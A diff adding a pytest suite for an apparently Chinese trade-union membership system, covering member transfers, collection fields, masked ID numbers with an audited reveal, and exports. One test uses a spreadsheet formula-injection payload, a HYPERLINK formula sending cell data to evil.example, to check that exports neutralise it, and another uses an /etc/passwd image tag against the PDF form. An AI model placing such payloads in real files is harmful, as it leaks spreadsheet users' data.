@@ -1,0 +1,310 @@
+"""Issue 11 for members: a retained member keeps the status across a transfer (item 7),
+the national real-name collection's fields and the 农民工 rule (item 9), masked ID numbers
+and phones with an audited reveal (item 10), typed and safe exports (items 11 and 15.3),
+and a change log in words (item 12)."""
+
+import csv
+import io
+
+import pytest
+from openpyxl import load_workbook
+
+from federation.platform.audit.models import AuditEvent
+from tenants.models import UnionRollup
+from tests.workplaces.members.conftest import member_payload, unique_id
+
+pytestmark = pytest.mark.django_db
+
+PROFILE = {
+    "ethnicity": "壮族",
+    "political_status": "party_member",
+    "education": "bachelor",
+    "household_type": "rural",
+    "household_place": "广西壮族自治区南宁市",
+    "position": "装配工",
+    "skill_level": "grade_4",
+    "model_worker": True,
+    "model_worker_level": "provincial",
+    "card_no": "HZ-0001",
+    "address": "杭州市西湖区文三路 1 号",
+    "retirement_date": "2050-01-01",
+}
+
+
+@pytest.fixture
+def a_finance(client_for, union_a):
+    return client_for("a_finance", union_a)
+
+
+@pytest.fixture
+def a_chair(client_for, union_a):
+    return client_for("a_chair", union_a)
+
+
+def _add(api, **kw):
+    r = api.post("/api/v1/members/", member_payload(**kw), format="json")
+    assert r.status_code == 201, r.json()
+    return r.json()
+
+
+# --- item 7 ------------------------------------------------------------------------
+def test_a_retained_member_who_transfers_stays_retained(a_org, b_org, union_b):
+    member = _add(a_org, monthly_wage="6000.00")
+    r = a_org.post(
+        f"/api/v1/members/{member['id']}/leave/",
+        {"status": "retired", "reason": "退休", "on": "2025-06-30"},
+        format="json",
+    )
+    assert r.json()["status"] == "retained"
+    tid = a_org.post(
+        f"/api/v1/members/{member['id']}/transfer/", {"to_union": "union-b"}, format="json"
+    ).json()["id"]
+    arrived = b_org.post(f"/api/v1/transfers/{tid}/accept/")
+    assert arrived.status_code == 200
+    assert (arrived.json()["status"], arrived.json()["dues_monthly"]) == ("retained", "0.00")
+    assert arrived.json()["history"][-1]["status"] == "retained"
+    rollup = UnionRollup.objects.get(union=union_b)
+    assert (rollup.members_active, rollup.members_retained) == (0, 1)
+
+
+# --- item 9 ------------------------------------------------------------------------
+def test_the_collection_fields_round_trip_through_the_api(a_org):
+    member = _add(a_org, employment="contract", **PROFILE)
+    got = a_org.get(f"/api/v1/members/{member['id']}/").json()
+    assert {k: got[k] for k in PROFILE} == PROFILE
+    assert got["employment"] == "contract"
+
+
+def test_a_dispatched_worker_from_the_countryside_is_also_a_migrant_worker(a_org, union_a):
+    from federation.reports.sources import source_value
+
+    member = _add(a_org, employment="dispatched", household_type="rural")
+    assert (member["employment"], member["is_migrant"]) == ("dispatched", True)
+    _add(a_org, employment="regular", household_type="urban")
+    legacy = _add(a_org, employment="migrant")
+    assert legacy["is_migrant"] is True
+    assert UnionRollup.objects.get(union=union_a).members_migrant == 2
+    assert source_value("members.active.migrant", union_a) == 2
+
+
+def test_a_bad_collection_value_is_a_400_naming_the_field(a_org):
+    r = a_org.post(
+        "/api/v1/members/", member_payload(ethnicity="火星族", education="phd"), format="json"
+    )
+    assert r.status_code == 400
+    assert sorted(r.json()) == ["education", "ethnicity"]
+
+
+def test_a_level_without_the_title_is_refused(a_org):
+    r = a_org.post(
+        "/api/v1/members/",
+        member_payload(model_worker=False, model_worker_level="national"),
+        format="json",
+    )
+    assert r.status_code == 400
+    assert list(r.json()) == ["model_worker_level"]
+
+
+def test_the_import_reads_the_collection_columns_in_chinese(a_org, union_a, in_union):
+    from workplaces.members.models import Member
+
+    number = unique_id("F")
+    content = (
+        "姓名,性别,身份证号,入会日期,用工形式,民族,政治面貌,学历,户籍类型,户籍地,岗位/职务,"
+        "技能等级,是否劳模,劳模级别,会员卡号,家庭住址,退休日期\n"
+        f"李娜,女,{number},2024-01-01,劳务派遣,回族,党员,本科,农村户口,安徽省阜阳市,质检员,"
+        "高级工,是,省部级,K-9,宁波市鄞州区,2045-05-01\n"
+    ).encode("gb18030")
+    r = a_org.post(
+        "/api/v1/members/import/",
+        {"file": io.BytesIO(content)},
+        format="multipart",
+    )
+    assert r.status_code == 200, r.json()
+    assert (r.json()["created"], r.json()["errors"]) == (1, [])
+    with in_union(union_a):
+        m = Member.objects.get(id_number=number)
+        assert (
+            m.ethnicity,
+            m.political_status,
+            m.education,
+            m.household_type,
+            m.position,
+            m.skill_level,
+            m.model_worker,
+            m.model_worker_level,
+            m.card_no,
+            m.retirement_date.isoformat(),
+            m.employment,
+            m.is_migrant,
+        ) == (
+            "回族",
+            "party_member",
+            "bachelor",
+            "rural",
+            "质检员",
+            "grade_3",
+            True,
+            "provincial",
+            "K-9",
+            "2045-05-01",
+            "dispatched",
+            True,
+        )
+
+
+def test_the_template_has_drop_down_lists_and_a_sample_that_passes_the_checksum(a_org):
+    from tenants.validators import parse_id_number
+
+    r = a_org.get("/api/v1/members/import/template/")
+    assert r.status_code == 200
+    wb = load_workbook(io.BytesIO(r.content))
+    ws = wb["会员导入"]
+    header = [c.value for c in ws[1]]
+    sample = dict(zip(header, [c.value for c in ws[2]], strict=False))
+    number, _birth, _gender = parse_id_number(sample["身份证号"])
+    assert number == sample["身份证号"]
+    lists = {
+        str(dv.sqref).split(":")[0][:-1]: dv.formula1 for dv in ws.data_validations.dataValidation
+    }
+    columns = {h: ws.cell(row=1, column=i + 1).column_letter for i, h in enumerate(header)}
+    for title in (
+        "性别",
+        "用工形式",
+        "民族",
+        "政治面貌",
+        "学历",
+        "户籍类型",
+        "技能等级",
+        "是否劳模",
+    ):
+        assert columns[title] in lists, title
+    options = [c.value for c in wb["选项"]["C"] if c.value]
+    assert options[:3] == ["民族", "汉族", "蒙古族"]
+
+
+def test_the_registration_form_is_a_pdf_with_the_record(a_org):
+    from pypdf import PdfReader
+
+    member = _add(a_org, name="王芳", gender="F", id_number=unique_id("F"), **PROFILE)
+    r = a_org.get(f"/api/v1/members/{member['id']}/registration.pdf")
+    assert r.status_code == 200
+    assert r["Content-Type"] == "application/pdf"
+    text = PdfReader(io.BytesIO(r.content)).pages[0].extract_text()
+    assert "会员登记表" in text
+    assert "王芳" in text
+    assert "装配工" in text
+
+
+def test_hostile_text_in_the_record_does_not_break_the_pdf(a_org):
+    member = _add(a_org, address='<img src="/etc/passwd"/> <b>x', position="<font>")
+    r = a_org.get(f"/api/v1/members/{member['id']}/registration.pdf")
+    assert r.status_code == 200
+
+
+def test_another_unions_member_has_no_registration_form(a_org, b_org):
+    member = _add(b_org)
+    assert a_org.get(f"/api/v1/members/{member['id']}/registration.pdf").status_code == 404
+
+
+# --- item 10 -----------------------------------------------------------------------
+def test_a_finance_officer_sees_the_id_number_and_phone_masked(a_org, a_finance):
+    number = unique_id()
+    member = _add(a_org, id_number=number, phone="13812345678")
+    got = a_finance.get(f"/api/v1/members/{member['id']}/").json()
+    assert got["id_number"] == number[:6] + "********" + number[-4:]
+    assert (got["phone"], got["identity_masked"]) == ("138****5678", True)
+    listed = a_finance.get("/api/v1/members/").json()["results"][0]
+    assert (listed["id_number"], listed["phone"]) == (got["id_number"], "138****5678")
+
+
+def test_the_chair_and_the_organization_officer_see_them_in_full(a_org, a_chair):
+    number = unique_id()
+    member = _add(a_org, id_number=number)
+    for api in (a_org, a_chair):
+        got = api.get(f"/api/v1/members/{member['id']}/").json()
+        assert (got["id_number"], got["identity_masked"]) == (number, False)
+
+
+def test_revealing_is_an_audited_action(a_org, a_finance, union_a, in_union):
+    number = unique_id()
+    member = _add(a_org, id_number=number, phone="13812345678")
+    r = a_finance.post(f"/api/v1/members/{member['id']}/reveal/")
+    assert r.status_code == 200
+    assert r.json() == {"id_number": number, "phone": "13812345678"}
+    with in_union(union_a):
+        event = AuditEvent.objects.get(kind="member.revealed", object_id=str(member["id"]))
+        assert (event.actor_name, event.after) == ("a_finance", {"fields": ["id_number", "phone"]})
+        assert number not in str(event.after)
+
+
+def test_revealing_another_unions_member_is_a_404(a_finance, b_org):
+    member = _add(b_org)
+    assert a_finance.post(f"/api/v1/members/{member['id']}/reveal/").status_code == 404
+
+
+def test_a_masked_reader_exports_masked_numbers(a_org, a_finance):
+    number = unique_id()
+    _add(a_org, id_number=number)
+    r = a_finance.get("/api/v1/members/export/?format=csv")
+    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
+    assert rows[1][3] == number[:6] + "********" + number[-4:]
+
+
+# --- items 11 and 15.3 -------------------------------------------------------------
+def test_the_xlsx_export_has_typed_numbers_and_dates(a_org):
+    import datetime as dt
+
+    _add(a_org, monthly_wage="4510.00", joined_on="2021-05-04")
+    r = a_org.get("/api/v1/members/export/?format=xlsx")
+    ws = load_workbook(io.BytesIO(r.content)).active
+    header = [c.value for c in ws[1]]
+    row = dict(zip(header, [c.value for c in ws[2]], strict=True))
+    assert row["月工资"] == 4510
+    assert row["月会费"] == 22.55
+    assert row["入会日期"] == dt.datetime(2021, 5, 4)
+    assert isinstance(row["会员号"], str)
+
+
+def test_a_formula_like_group_name_stays_text_in_xlsx_and_csv(a_org, union_a, in_union):
+    from workplaces.members.groups import group_create
+
+    hostile = '=HYPERLINK("http://evil.example/x?d="&B3,"查看")'
+    with in_union(union_a):
+        group = group_create(name=hostile, actor=None)
+    _add(a_org, group=str(group.pk))
+    ws = load_workbook(io.BytesIO(a_org.get("/api/v1/members/export/?format=xlsx").content)).active
+    cell = ws.cell(row=2, column=8)
+    assert (cell.value, cell.data_type) == ("'" + hostile, "s")
+    text = a_org.get("/api/v1/members/export/?format=csv").content.decode("utf-8-sig")
+    assert list(csv.reader(io.StringIO(text)))[1][7] == "'" + hostile
+
+
+# --- item 12 -----------------------------------------------------------------------
+def test_the_change_log_shows_field_and_value_labels_in_chinese(
+    client_for, union_a, in_union, make_member
+):
+    from django.contrib.auth import get_user_model
+    from django.utils import translation
+
+    from tests.conftest import HostClient, host_of
+    from workplaces.members.groups import group_create
+    from workplaces.members.services import member_leave, member_update
+
+    member = make_member(union_a)
+    with in_union(union_a):
+        group = group_create(name="一车间小组", actor=None)
+        member_update(member=member, actor=None, group=group, user=None)
+        member_leave(member=member, status="retained", on=None, reason="退休", actor=None)
+        page = HostClient(host_of(union_a))
+        page.force_login(get_user_model().objects.get(username="a_organization"))
+    page.cookies["django_language"] = "zh-hans"
+    with translation.override("zh-hans"):
+        html = page.get(f"/members/{member.pk}/").content.decode()
+    log = html[html.index('id="audit"') :]
+    assert "工会小组: 一车间小组" in log
+    assert "工会小组: 1" not in log
+    assert "状态: active" not in log
+    assert "None" not in log
+    assert "性别: M" not in log
+    assert "性别: 男" in log
